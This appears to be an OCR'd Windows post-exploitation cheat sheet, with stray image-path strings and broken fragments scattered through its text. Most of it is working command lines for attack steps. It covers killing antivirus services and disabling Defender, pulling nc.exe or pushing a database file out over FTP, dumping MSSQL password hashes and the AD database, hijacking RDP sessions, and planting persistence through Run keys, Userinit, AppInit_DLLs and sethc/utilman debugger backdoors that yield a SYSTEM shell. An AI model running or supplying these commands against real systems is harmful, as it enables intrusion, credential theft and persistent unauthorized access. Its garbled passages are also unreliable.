powershell (new-objectsystem.directoryservices.directorysearcher("(&(objectcategory=user)(samaccountname=$($env:username)))")).FindOne().GetDirectoryEntry().memberof


View the list of started services (search for antivirus):

net start
sc query


Stop a service:

net stop "Symantec Endpoint Protection"


View the list of started processes and the owner:

tasklist /v


Kill a process by its name:

taskkill /F /IM "cmd.exe"


Abort a shutdown/restart countdown:

shutdown /aDownload an executable from a remote FTP server:

echo open> C:\script.txt
echo user myftpuser>> C:\script.txt
echo pass myftppass>> C:\script.txt
echo get nc.exe>> C:\script.txt
echo bye>> C:\script.txt
ftp -s:script.txt


Upload a file to a remote FTP server:

echo open> C:\script.txt
echo user myftpuser>> C:\script.txt
echo pass myftppass>> C:\script.txtecho put E:\backups\database.dbf>> C:\script.txt
echo bye>> C:\script.txt
ftp -s:script.txt


WMI call remote system

wmic /node:remote_computer process call create "netstat.exe -ano > C:\output.txt"


View established connections of current machine:

netstat -a -n -p tcp | find "ESTAB"


View open ports of current machine:

netstat -a -n -p tcp | find "LISTEN"


netstat -a -n -p udp


View network configuration:

netsh interface ip show addresses
netsh interface ip show route
netsh interface ip show neighbors


View current network shares:

net share


Mount a remote share with the rights of the current user:

net use K: \\\C$


Enable Remote Desktop:

reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /fOne-Liner Windows Enumeration

whoami & hostname & ipconfig /all & net user /domain 2>&1 & net group /domain 2>&1 & net group "domainadmins" /domain 2>&1 & net group "Exchange Trusted Subsystem" /domain 2>&1 & net accounts /domain 2>&1 & net user 2>&1 & net localgroup administrators 2>&1 & netstat -an 2>&1 & tasklist 2>&1 & sc query 2>&1 & systeminfo 2>&1 & reg query "HKEY_CURRENT_USER\Software\Microsoft\Terminal Server Client\Default" 2>&1 & net view & net view /domain & net user %USERNAME% /domain & nltest /dclist & gpresult /z

Check for unquoted service paths

wmic service get name,displayname,pathname,startmode | findstr /i /v "c:\windows\\" | findstr /i /v """


gwmi win32_service |Select pathname | Where {($_.pathname -ne $null)} | Where {-not $_.pathname.StartsWith("`"")} | Where {($_.pathname.Substring(0, $_.pathname.IndexOf(".") +4)) -match ".* .*"}Change Windows Proxy Settings

Command to enable proxy usage:

reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v ProxyEnable /t REG_DWORD /d 1 /f

Command to disable proxy usage:

reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v ProxyEnable /t REG_DWORD /d 0 /f

Command to change the proxy address:

reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v ProxyServer /t REG_SZ /d proxyserveraddress:proxyport /f

Also, in this case, it is a per-user setting than asystem-wide setting.


Mount a .win image remotely on target machine

Dism /get-wiminfo /wimfile:z:\win7\Acme_Win7.wim

Boot Dir
Dism /Mount-Wim /WimFile:z:\win7\Acme_Win7.wim /index:1 /MountDir:C:\windows\temp\offline

C: Drive
Dism /Mount-Wim /WimFile:z:\win7\Acme_Win7.wim /index:2 /MountDir:C:\windows\temp\offline

Dism /UnMount-Wim /MountDir:C:\windows\temp\offline /discard


Check if file is locked

@echo off; 2>nul ( >>file.txt echo off) && (echo not locked) || (echo locked)


Lock a file for testing(>&2 pause) >> file.txt




Get attributes for all Windows hosts in the Domain

dsquery * -filter "(&(objectclass=computer) (objectcategory=computer) (operatingSystem=Windows*))" -limit 0 |dsget computer -dn -samid -desc -loc >c:\windows\temp\computers.log


Get attributes for computers in a specific OU

dsquery computer <OU=PUT OU HERE> -limit 0 |dsget computer -dn -samid -desc -l >c:\windows\temp\out.log


Get attributes for users in the specified OU

dsquery user <OU=PUT OU HERE> -limit 0 |dsget user -dn -samid -display -desc -office -tel -email -title -hmdir -profile -loscr -mustchpwd -canchpwd -pwdneverexpires -disabled


Get DC

dsquery server -forest


dsquery server -o rdn -forest


Get Domain Functional Level

dsquery * "DC=corp,DC=test,DC=com" -scope base -attr msDS-Behavior-Version ntMixedDomain


Get Forest Functional Level

dsquery * "CN=Partitions,CN=Configuration,DC=corp,DC=test,DC=com" -scope base -attr msDS-Behavior-Version ntMixedDomain



List Databases

sqlcmd -E -S localhost -Q "EXEC sp_databases;"


List Tables in Databasesqlcmd -E -S localhost -Q "SELECT * FROM DatabaseName.information_schema.tables;" -W -w 999 -s"," -o "c:\windows\temp\RecruiterProd_MSCRM_tables.csv"


Retrieve table contents

sqlcmd -E -S localhost -d DatabaseName -Q "SELECT * FROM SystemUserBase;" -W -w 999 -s"," -o "c:\windows\temp\RecruiterProd_MSCRM_userbase.csv"


Dump MSSQL Password Hashes

sqlcmd -E -S localhost -Q "SELECT name, password_hash FROM master.sys.sql_logins;"



Built-in utility to create backup copy of the AD database

ntdsutil "ac i ntds" "ifm" "create full c:\temp" q q



List Applocker’s effective policy on the system

Get-ApplockerPolicy -Effective


Windows Defender

Remove definitions and disable AV protection (Useful whenPowershell scripts are being blocked by Defender)

c:\program files\windows defender\mpcmdrun.exe" -RemoveDefinitions -All Set-MpPreference -DisableIOAVProtection $true



Get virtual directories in IIS

c:\windows\system32\inetsrv\appcmd.exe list vdir /text:physicalpathWindows Lateral Movement

RDP Hijacking

If you have SYSTEM context on a host, you can assume the RDP sessions of other users without credentials using the tscon.exe command.

Gain access to cmd.exe to issue the tscon.exe command over RDP by creating a backdoor with Stickkeys or Utilman. Use scheduled tasks (as SYSTEM) or create a service to execute the desired command.

RDP hijacking — how to hijack RDS and RemoteApp sessions transparently to move through an organisation# View RDP sessions on system your RDP'd to with administrative permissions # Locally quser # Remote quser /server: # Create a service that will swap your SESSIONNAME with the desired disconnected session sc create sesshijack binpath= "cmd.exe /k tscon 1 /dest:rdp-tcp#XX" error= "ignore" # Start service net start sesshijack or sc start sesshijack


Linux to Windows Remoting

  • In windows run
winrm set winrm/config/Service/Auth @{Basic="true"}
winrm set winrm/config/Service @{AllowUnencrypted="true"}


  • In linux run
$cred = Get-Credential
Enter-PSSession -ComputerName 'winserver1' -Credential $cred -Authentication Basic


PowerShell Remoting over SSH

Enter-PSSession -Hostname -Username james -SSHTransport


Windows Persistence MethodsRegistry Keys

Modify registry keys

#Add a key/value reg add \\\ /v """ /t /d #Delete a key/value reg delete \\\ /v ""


Userinit Key

This key specifies what program should be launched right after a user logs into Windows. The default program for this key is C:\windows\system32\userinit.exe. Userinit.exe is a program that restores your profile, fonts, colors, etc for your user name. It is possible to add further programs that will launch from this key by separating the programs with a comma.

HKEY_LOCAL_MACHINE\Software\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit
HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit = (REG_SZ) C:\windows\system32\userinit.exe,c:\windows\badprogram.exe


Run Key

#System Wide HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce #Current Logged-On User Only HKEY_CURRENT_USER\SOFTWARE\Microsoft\Windows\CurrentVersion\Run HKEY_CURRENT_USER\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce


List Image File Execution Options (Debugger file executed when the target file is run)

HKLM\Software\MS\WindowsNT\CurrentVersion\Image File Execution Options\notepad.exe\debugger(REG_SZ = cmd.exe)Load custom DLLs each time a program runs (If it loads USER32.dll). This is checked by most AV!

This value corresponds to files being loaded through the AppInit_DLLs Registry value. The AppInit_DLLs registry value contains a list of dlls that will be loaded when user32.dll is loaded. As most Windows executables use the user32.dll, that means that any DLL that is listed in the AppInit_DLLs registry key will be loaded also. This makes it very difficult to remove the DLL as it will be loaded within multiple processes, someof which can not be stopped without causing system instability. The user32.dll file is also used by processes that are automatically started by the system when you log on. This means that the files loaded in the AppInit_DLLs value will be loaded very early in the Windows startup routine allowing the DLL to hide itself or protect itself before we have access to the system.



No-reboot sethc/utilman option using a “debugger” key

Navigate to HKLM\Software\Microsoft\WindowsNT\CurrentVersion\Image File Execution Options\
Make key called “sethc.exe”
Make a REG_SQ value called “Debugger”
Assign it “c:\windows\system32\cmd.exe” as the value
Hit SHIFT 5 times and get a shell as nt authority\system

reg add "\\hostname\HKLM\Software\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "c:\windows\system32\cmd.exe"
reg add "\\hostname\HKLM\Software\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\utilman.exe" /v Debugger /t REG_SZ /d "c:\windows\system32\cmd.exe"


Remove the debugger key

reg delete "\\hostname\HKLM\Software\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /f
reg delete "\\hostname\HKLM\Software\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\utilman.exe" /f


File Storage Locations

Startup Folders

#All Users - Windows XP C:\Documents and Settings\All Users\Start Menu\Programs\Startup #All Users - Windows Vista+ C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup #User Profile - Windows XP C:\Documents and Settings\\Start Menu\Programs\Startup #User Profile - Windows Vista+ C:\Users\\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\StartupReplace these binaries, may require a reboot to take effect


Hit shift 5 times = sethc.exe run by SYSTEM
Windows key + U = utilman.exe run by SYSTEM

Volume Shadow Copy (Restore Points)

Windows service that’s constantly running – takes snapshots of system directories

